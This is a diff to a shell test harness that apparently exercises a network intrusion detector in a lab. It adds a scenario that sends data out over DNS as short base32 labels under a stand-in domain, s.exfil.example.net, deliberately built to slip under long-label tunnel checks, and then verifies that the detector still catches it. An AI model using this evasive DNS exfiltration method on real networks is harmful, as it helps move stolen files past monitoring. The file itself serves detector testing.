@@ -44,7 +44,7 @@ readonly LAB_PASS="Lab-Passw0rd"
 readonly LDAP_BASE="dc=lab,dc=example"
 
 readonly ALL_SCENARIOS=(scan-syn scan-connect scan-stealth scan-udp scan-grid sweep-445 arp-scan nd-scan dhcp-rogue dhcp-flood dhcp-flip
-  dns-flood dns-tunnel ldap-enum ldap-sealed ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
+  dns-flood dns-tunnel dns-tunnel-short ldap-enum ldap-sealed ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
   name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ntlm-relay-far ldap-recon crypto-mining cleartext-login form-login form-brute snmp mail-fetch mail-imap mail-upload ftp-files mail-files mail-out intel-direct form-spray ws-tunnel socks external-proxy doh overpass ping-sweep named-pipe)
 
 # Addresses a capture may contain (anything else means a leak and fails the scenario).
@@ -873,6 +873,27 @@ scenario_dns_tunnel() {
   expect dns-tunnel "dig -f from 10.77.2.25 against the resolver 10.77.1.1: 120 NULL-type queries (iodine's default carrier) for long random base32 names under t.tunnel.example.net, in a few seconds." \
     '[{"rule": "dns.excessive_ptr_txt", "source": {"ip": "10.77.2.25"}, "destination": {"ip": "10.77.1.1", "port": 53}, "evidence": {"trigger": "NULL"}},
       {"rule": "dns.tunnel", "source": {"ip": "10.77.2.25"}, "destination": {"ip": "10.77.1.1", "port": 53}, "evidence": {"domain": "example.net"}}]'
+}
+
+scenario_dns_tunnel_short() {
+  local i chunk
+  # A tunnel that keeps every name short to pass under long-label checks: a file sent 15 bytes at a
+  # time as one 24-character base32 label after a sequence number, in A queries under
+  # s.exfil.example.net (the lab resolver answers every example.net name), 150 queries from 10.77.2.23.
+  : >"$WORK/dig-short.txt"
+  head -c 2400 /dev/urandom | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z' | fold -w 24 | head -n 150 >"$WORK/short-chunks.txt"
+  i=0
+  while read -r chunk; do
+    i=$((i + 1))
+    printf '%d.%s.s.exfil.example.net A\n' "$i" "$chunk" >>"$WORK/dig-short.txt"
+  done <"$WORK/short-chunks.txt"
+  nsx ws23 timeout 120 dig @10.77.1.1 +tries=1 +time=1 +noall +answer -f "$WORK/dig-short.txt" >/dev/null
+  stop_capture
+  require dns-tunnel-short 150 "udp dst port 53 and src host 10.77.2.23"
+  expect dns-tunnel-short "dig -f from 10.77.2.23 against the resolver 10.77.1.1: 150 A queries, each a sequence number and a 24-character base32 label (15 bytes of a file) under s.exfil.example.net: a tunnel whose names stay under the long-label mark (about 30 characters of subdomain each)." \
+    '[{"rule": "dns.tunnel", "source": {"ip": "10.77.2.23"}, "destination": {"ip": "10.77.1.1", "port": 53}, "evidence": {"domain": "example.net", "chunks": "short"}}]' \
+    '  "exclusive": true,
+  "allow": ["device.new"]'
 }
 
 scenario_ldap_enum() {
